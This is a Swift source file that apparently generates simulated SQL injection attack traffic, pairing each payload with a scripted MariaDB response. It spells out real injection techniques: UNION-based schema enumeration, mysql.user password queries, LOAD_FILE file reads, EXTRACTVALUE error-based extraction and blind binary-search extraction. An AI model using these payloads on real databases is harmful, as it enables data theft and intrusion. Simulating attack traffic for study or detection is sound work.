/// Writes the requests of a step, and knows what the database answers to each.
struct AttemptWriter {
  let step: Scenario.Step
  let stage: Stage
  let site: Site
  let page: Site.Page
  let payload: Payload

  func attempts() -> [Attempt] {
    switch step.kind {
    case .probe: probes()
    case .columns: columns()
    case .schema: catalogue()
    case .fail: failures()
    case .file: [fileRead()]
    case .read: step.technique == .error ? errorReads() : blindReads()
    case .request: []
    }
  }

  private var value: String { site.ordinaryValue(page.kind, 1) }
  private var ordinary: Attempt.Answer { .rows(site.ordinaryRows(page.kind, 1)) }

  private func syntaxError(_ near: String) -> Attempt.Answer {
    .error(
      "You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server version for the right syntax to use near '\(near)' at line 1"
    )
  }

  // MARK: - Looking around

  private func probes() -> [Attempt] {
    var chance = Chance(Chance.seed(stage.scenario.seed, 82, step.attacker))
    var probes: [Attempt] = []
    for _ in 0..<3 {
      let number = 1000 + chance.below(8999)
      probes.append(Attempt(payload: payload.condition(value, "\(number)=\(number)"), answer: ordinary))
      probes.append(
        Attempt(
          payload: payload.condition(value, "\(number)=\(number + 1 + chance.below(500))"), answer: .rows([]))
      )
    }
    let isQuoted = payload.point.isQuoted
    return probes + [
      Attempt(payload: value + "'", answer: syntaxError(isQuoted ? "\(value)''" : "' ORDER BY id")),
      Attempt(payload: value + "''", answer: isQuoted ? .rows([]) : syntaxError("'' ORDER BY id")),
      Attempt(payload: value + "\"", answer: isQuoted ? .rows([]) : syntaxError("\" ORDER BY id")),
    ]
  }

  private func columns() -> [Attempt] {
    var attempts = (1...page.width + 1).map { number in
      Attempt(
        payload: payload.appended(value, "ORDER BY \(number)"),
        answer: number <= page.width ? ordinary : .error("Unknown column '\(number)' in 'order clause'"))
    }
    attempts.append(Attempt(payload: payload.union("NULL"), answer: .rows([payload.row("")])))
    var chance = Chance(Chance.seed(stage.scenario.seed, 83, step.attacker))
    let letters = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz".utf8)
    // As bytes, and as text: a page may write the two differently.
    for (length, isText) in [(10, false), (24, true), (40, false), (17, true), (33, false), (52, true)] {
      let text = String(decoding: (0..<length).map { _ in chance.pick(letters) }, as: UTF8.self)
      let literal = Payload.hexadecimal(text)
      let marks = (Payload.hexadecimal(payload.begin), Payload.hexadecimal(payload.end))
      attempts.append(
        Attempt(
          payload: payload.union(
            isText ? payload.marked([literal]) : "CONCAT(\(marks.0),\(literal),\(marks.1))"),
          answer: .rows([payload.row(payload.begin + text + payload.end)])))
    }
    return attempts
  }

  private func scalar(_ expression: String, _ value: String) -> Attempt {
    Attempt(
      payload: payload.union(payload.marked([expression])),
      answer: .rows([payload.row(payload.text([.text(value)]))]))
  }

  private func catalogue() -> [Attempt] {
    let scenario = stage.scenario
    let schema = scenario.services[step.schema].id
    var attempts = [
      scalar("VERSION()", scenario.dump.server), scalar("CURRENT_USER()", "shop@localhost"),
      scalar("DATABASE()", scenario.services[payload.point.service].id),
    ]
    func listing(_ columns: [String], _ rest: String, _ rows: [[String]]) -> Attempt {
      let texts = rows.map { payload.text($0.map { .text($0) }) }
      guard page.kind == .detail else {
        return Attempt(
          payload: payload.union(payload.marked(columns), rest), answer: .rows(texts.map(payload.row)))
      }
      // A page that shows one row is made to show all in one.
      return Attempt(
        payload: payload.union("(SELECT GROUP_CONCAT(\(payload.marked(columns))) \(rest))"),
        answer: .rows([payload.row(texts.joined(separator: ","))]))
    }
    attempts.append(
      listing(
        ["schema_name"], "FROM information_schema.schemata",
        [["information_schema"]] + scenario.services.map { [$0.id] }))
    let tables = scenario.tables(of: step.schema)
    attempts.append(
      listing(
        ["table_name"], "FROM information_schema.tables WHERE table_schema=\(Payload.hexadecimal(schema))",
        tables.map { [$0] }))
    for table in step.tables {
      attempts.append(
        listing(
          ["column_name", "column_type"],
          "FROM information_schema.columns WHERE table_name=\(Payload.hexadecimal(table)) AND table_schema=\(Payload.hexadecimal(schema))",
          TableLayout(scenario, table: schema + "." + table).columns.map { [$0.name, $0.bareType] }))
    }
    return attempts
  }

  /// What does not work: tables that are not there, a wrong number of columns, no rights.
  private func failures() -> [Attempt] {
    (0..<step.requests).map { number in
      let schema = stage.scenario.services[payload.point.service].id
      switch number % 4 {
      case 0:
        let name =
          ["users", "admin", "customers", "accounts"][number / 4 % 4] + (number < 16 ? "" : "_\(number)")
        return Attempt(
          payload: payload.union(payload.marked(["login", "password"]), "FROM \(name) LIMIT 0,1"),
          answer: .error("Table '\(schema).\(name)' doesn't exist"))
      case 1:
        return Attempt(
          payload: payload.appended(
            "-1",
            "UNION ALL SELECT "
              + [String](repeating: "NULL", count: page.width + 1 + number % 3).joined(separator: ",")),
          answer: .error("The used SELECT statements have a different number of columns"))
      case 2:
        return Attempt(
          payload: payload.union(payload.marked(["user", "password"]), "FROM mysql.user LIMIT \(number),1"),
          answer: .error("SELECT command denied to user 'shop'@'localhost' for table 'user'"))
      default:
        return Attempt(
          payload: payload.condition(
            value, "(SELECT \(number) FROM(SELECT COUNT(*),NAME_CONST(VERSION(),1))x)"),
          answer: .error("Incorrect arguments to NAME_CONST"))
      }
    }
  }

  private func fileRead() -> Attempt {
    let plan = stage.scenario.files[step.file]
    let content = stage.content(step.file, at: step.at)
    let load = "LOAD_FILE(\(Payload.hexadecimal(plan.path)))"
    // The content is not repeated here for its length alone: letters that pages leave as they are.
    let length = step.isHexadecimal ? content.bytes * 2 : content.escaped
    return Attempt(
      payload: payload.union(payload.marked([step.isHexadecimal ? "HEX(\(load))" : load])),
      answer: .rows([payload.row(payload.begin + String(repeating: "0", count: length) + payload.end)]))
  }

  // MARK: - Value by value

  /// The values of the step, each with the query that yields it.
  private func cells() -> [(query: String, value: String)] {
    let plan = stage.scenario.populations[step.population]
    let rows = step.rows ?? plan.count - step.first
    var cells: [(String, String)] = []
    for index in step.first..<step.first + rows {
      let record = stage.book.record(step.population, index)
      for column in step.columns.map({ plan.columns[$0] }) {
        let value = stage.book.value(record, column.kind, stage.clock)
        let text = if case .null = value { " " } else { value.shown }
        let key = plan.columns.first { $0.kind == .id }?.name ?? "id"
        cells.append(
          (
            "IFNULL(CAST(\(column.name) AS NCHAR),0x20)|FROM \(plan.table ?? "") ORDER BY \(key) LIMIT \(index),1",
            text
          ))
      }
    }
    return cells
  }

  /// In an error message of at most 32 characters, piece by piece.
  private func errorReads() -> [Attempt] {
    let piece = 20
    var attempts: [Attempt] = []
    func ask(_ expression: String, _ text: String) {
      attempts.append(
        Attempt(
          payload: payload.condition(
            value,
            "EXTRACTVALUE(4711,CONCAT(0x5c,\(Payload.hexadecimal(payload.begin)),\(expression),\(Payload.hexadecimal(payload.end))))"
          ),
          answer: .error("XPATH syntax error: '\\\(payload.begin)\(text)\(payload.end)'")))
    }
    ask("(SELECT (ELT(4711=4711,1)))", "1")
    for text in ["kWzP", "dQmTbXvL", "aYsHnRcVeGoJ"] { ask(Payload.hexadecimal(text), text) }
    for cell in cells() {
      let parts = cell.query.split(separator: "|", maxSplits: 1)
      var start = 0
      let characters = Array(cell.value)
      repeat {
        let text = String(characters[min(start, characters.count)..<min(start + piece, characters.count)])
        ask("(SELECT MID((\(parts[0])),\(start + 1),\(piece)) \(parts[1]))", text)
        start += piece
      } while start <= characters.count && characters.count >= piece
    }
    return attempts
  }

  /// Character by character, halving what is possible.
  private func blindReads() -> [Attempt] {
    var attempts: [Attempt] = []
    for cell in cells() {
      let query = cell.query.split(separator: "|", maxSplits: 1)
      let codes = cell.value.unicodeScalars.map { scalar in
        String(scalar).utf8.reduce(0) { $0 << 8 | Int($1) }
      }
      for position in 0...codes.count {
        let code = position < codes.count ? codes[position] : 0
        func isAbove(_ limit: Int) -> Bool {
          let question =
            "ORD(MID((SELECT \(query[0]) \(query[1])),\(position + 1),1))>\(limit)"
          attempts.append(
            Attempt(payload: payload.condition(value, question), answer: code > limit ? ordinary : .rows([])))
          return code > limit
        }
        var (low, high) = (0, 127)
        if isAbove(127) {
          (low, high) = (128, 0xFFFF)
          while isAbove(high) { (low, high) = (high + 1, high << 8 | 0xFF) }
        }
        while low < high {
          let middle = (low + high) / 2
          if isAbove(middle) { low = middle + 1 } else { high = middle }
        }
      }
    }
    return attempts
  }
}
